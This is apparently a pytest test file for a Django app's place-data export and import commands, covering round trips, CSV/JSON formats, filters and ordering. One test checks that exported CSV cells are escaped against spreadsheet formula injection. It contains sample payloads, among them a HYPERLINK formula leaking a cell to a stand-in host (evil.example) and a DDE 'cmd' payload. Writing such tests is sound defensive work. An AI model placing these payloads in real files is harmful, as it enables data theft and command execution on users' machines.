import csv
import io
import json
from pathlib import Path

import pytest
from django.core.management import call_command
from django.core.management.base import CommandError

from renkei.places.exporting import export_order, places_export
from renkei.places.models import Place
from renkei.places.tests.factories import PlaceFactory
from renkei.places.validation import FIELDS

pytestmark = pytest.mark.django_db

FIXTURES = Path(__file__).parent / "fixtures"


def export(*args):
    out, err = io.StringIO(), io.StringIO()
    call_command("export", "places", *args, stdout=out, stderr=err)
    return out.getvalue()


def import_file(tmp_path, text, name):
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    out, err = io.StringIO(), io.StringIO()
    call_command("import", "places", str(path), stdout=out, stderr=err)
    return out.getvalue()


def varied_places():
    """Japanese text, empty optional values, hazard lists, booleans, awkward floats, parents with and without ids."""
    japan = PlaceFactory(
        external_id="jp", slug="japan", level="country", name_en="Japan", name_ja="日本", name_local="日本",
        country="JP", latitude=None, longitude=None, population=124_500_000, population_year=2024,
        area_km2=377975.0, share_65_plus=29.3, population_growth=-0.5, coastal=True,
        hazards=["earthquake", "tsunami", "typhoon"], income_group="HIC", timezone="Asia/Tokyo",
        summary={"en": "An island country.", "ja": "島国。"},
    )
    iwate = PlaceFactory(
        slug="iwate", level="region", name_en="Iwate", name_ja="岩手県", country="JP", parent=japan,
        latitude=39.7036, longitude=141.1527, area_km2=0.1 + 0.2, share_65_plus=1e-07, hazards=[], summary={},
    )
    PlaceFactory(
        external_id="jp-03-kamaishi", slug="kamaishi", name_en="Kamaishi", name_ja="釜石市", name_local="釜石市",
        country="JP", parent=iwate, latitude=39.2758, longitude=141.8857, population=30000, area_km2=440.35,
        coastal=True, hazards=["earthquake", "tsunami"], website="https://www.city.kamaishi.iwate.jp/",
        summary={"en": 'A port city; "rebuilt",\nafter 2011.', "ja": "三陸海岸の港町、\n復興した。"},
    )
    PlaceFactory(  # almost everything empty, unpublished, Japanese summary only
        slug="otsuchi", name_en="Otsuchi", name_ja="", name_local="", country="JP", parent=iwate, latitude=None,
        longitude=None, population=None, coastal=False, hazards=[], income_group="", timezone="", website="",
        summary={"ja": "大槌町。"}, is_published=False,
    )
    ward = PlaceFactory(slug="a-ward", name_en="A Ward", country="DE", latitude=-0.0, longitude=180.0)
    essen = PlaceFactory(slug="essen", name_en="Essen", name_ja="エッセン", country="DE", latitude=51.4556,
                         longitude=7.0116, population_growth=0.0, hazards=["flood", "heat"], summary={})
    ward.parent = essen  # a city inside a city whose name sorts after it
    ward.save()


@pytest.mark.parametrize(("fmt", "name"), [("csv", "places.csv"), ("json", "places.json")])
def test_round_trip(tmp_path, fmt, name):
    varied_places()
    first = export("--format", fmt)
    Place.objects.all().delete()
    assert "created 6, updated 0, unchanged 0, skipped 0" in import_file(tmp_path, first, name)
    assert export("--format", fmt) == first
    kamaishi = Place.objects.get(slug="kamaishi")
    assert kamaishi.summary == {"en": 'A port city; "rebuilt",\nafter 2011.', "ja": "三陸海岸の港町、\n復興した。"}
    assert Place.objects.get(slug="iwate").area_km2 == 0.1 + 0.2
    assert Place.objects.get(slug="otsuchi").is_published is False
    assert Place.objects.get(slug="a-ward").parent.slug == "essen"


def test_exporting_the_imported_fixture_gives_the_fixture_back(tmp_path):
    text = (FIXTURES / "places.csv").read_text(encoding="utf-8")
    import_file(tmp_path, text, "places.csv")
    assert export() == text


def test_csv_columns_and_values():
    varied_places()
    rows = list(csv.DictReader(io.StringIO(export())))
    assert list(rows[0]) == FIELDS
    assert [row["slug"] for row in rows] == ["japan", "iwate", "essen", "a-ward", "kamaishi", "otsuchi"]
    by_slug = {row["slug"]: row for row in rows}
    assert by_slug["iwate"]["parent"] == "jp"  # the parent's id
    assert by_slug["kamaishi"]["parent"] == "iwate"  # the parent has no id: its URL name
    assert by_slug["japan"]["hazards"] == "earthquake;tsunami;typhoon"
    assert by_slug["otsuchi"]["published"] == "false" and by_slug["otsuchi"]["lat"] == ""
    assert by_slug["iwate"]["area_km2"] == "0.30000000000000004"


FORMULAS = {"name_en": '=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "name_ja": "+81 釜石",
            "name_local": "-2+3", "external_id": "@SUM(1+1)"}


def test_csv_cells_a_spreadsheet_would_run_as_formulas_start_with_a_quote(tmp_path):
    PlaceFactory(slug="formulas", country="JP", population_growth=-1.8, latitude=-33.5, longitude=-70.25,
                 summary={"en": "-cmd|' /C calc'!A0", "ja": "'=already quoted"}, **FORMULAS)
    PlaceFactory(slug="blanks", country="JP", name_en="\t=1+1", summary={"en": "\r=2+2"})
    PlaceFactory(slug="harmless", country="JP", name_en="Kamaishi", name_ja="'quoted' name", summary={"en": "a-b"})
    first = export()
    rows = {row["slug"]: row for row in csv.DictReader(io.StringIO(first, newline=""))}
    formulas = rows["formulas"]
    assert formulas["name"] == '\'=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
    assert (formulas["name_ja"], formulas["name_local"], formulas["id"]) == ("'+81 釜石", "'-2+3", "'@SUM(1+1)")
    assert (formulas["summary_en"], formulas["summary_ja"]) == ("'-cmd|' /C calc'!A0", "''=already quoted")
    assert (rows["blanks"]["name"], rows["blanks"]["summary_en"]) == ("'\t=1+1", "'\r=2+2")
    # numbers stay numbers, and texts that are no formula stay as they are
    assert (formulas["population_growth"], formulas["lat"], formulas["lon"]) == ("-1.8", "-33.5", "-70.25")
    assert (rows["harmless"]["name_ja"], rows["harmless"]["summary_en"]) == ("'quoted' name", "a-b")
    # the JSON export is not for spreadsheets: nothing is escaped
    json_records = {r["slug"]: r for r in json.loads(export("--format", "json"))}
    assert json_records["formulas"]["name"] == FORMULAS["name_en"]
    # importing the CSV file gives the texts back exactly
    Place.objects.all().delete()
    import_file(tmp_path, first, "places.csv")
    place = Place.objects.get(slug="formulas")
    assert {name: getattr(place, name) for name in FORMULAS} == FORMULAS
    assert place.summary == {"en": "-cmd|' /C calc'!A0", "ja": "'=already quoted"}
    assert Place.objects.get(slug="harmless").name_ja == "'quoted' name"
    again = {row["slug"]: row for row in csv.DictReader(io.StringIO(export(), newline=""))}
    assert again["formulas"] == formulas and again["harmless"] == rows["harmless"]
    assert (again["blanks"]["name"], again["blanks"]["summary_en"]) == ("'=1+1", "'=2+2")  # an import trims texts


def test_json_types():
    varied_places()
    records = {record["slug"]: record for record in json.loads(export("--format", "json"))}
    assert records["japan"]["hazards"] == ["earthquake", "tsunami", "typhoon"]
    assert records["japan"]["lat"] is None and records["japan"]["id"] == "jp"
    assert records["otsuchi"]["id"] == "" and records["otsuchi"]["published"] is False
    assert records["kamaishi"]["name_ja"] == "釜石市"
    assert list(records["kamaishi"]) == FIELDS


def test_filters():
    varied_places()
    assert [row["slug"] for row in csv.DictReader(io.StringIO(export("--country", "DE")))] == ["essen", "a-ward"]
    assert [row["slug"] for row in csv.DictReader(io.StringIO(export("--level", "region")))] == ["iwate"]
    assert [row["slug"] for row in csv.DictReader(io.StringIO(export("--country", "Japan", "--level", "city")))] == [
        "kamaishi", "otsuchi"]
    with pytest.raises(CommandError, match="'Atlantis' is not an ISO 3166-1 country"):
        export("--country", "Atlantis")


def test_output_file_and_format_from_its_name(tmp_path):
    varied_places()
    target = tmp_path / "out.json"
    assert export("--output", str(target)) == ""
    assert len(json.loads(target.read_text(encoding="utf-8"))) == 6
    assert not (tmp_path / "out.json.part").exists()


def test_bom_for_excel(tmp_path):
    PlaceFactory(name_en="Kobe", name_ja="神戸市")
    target = tmp_path / "out.csv"
    export("--output", str(target), "--bom")
    assert target.read_bytes().startswith(b"\xef\xbb\xbfid,slug,")


def test_service_writes_an_empty_export():
    out = io.StringIO()
    assert places_export(out, format="json") == 0
    assert json.loads(out.getvalue()) == []


def test_parents_come_first():
    japan = PlaceFactory(slug="z-country", name_en="Zed", level="country")
    city = PlaceFactory(slug="a-city", name_en="Aaa", parent=None)
    PlaceFactory(slug="a-ward", name_en="Aa Ward", parent=city)
    city.parent = japan
    city.save()
    assert [p.slug for p in export_order(Place.objects.all())] == ["z-country", "a-city", "a-ward"]
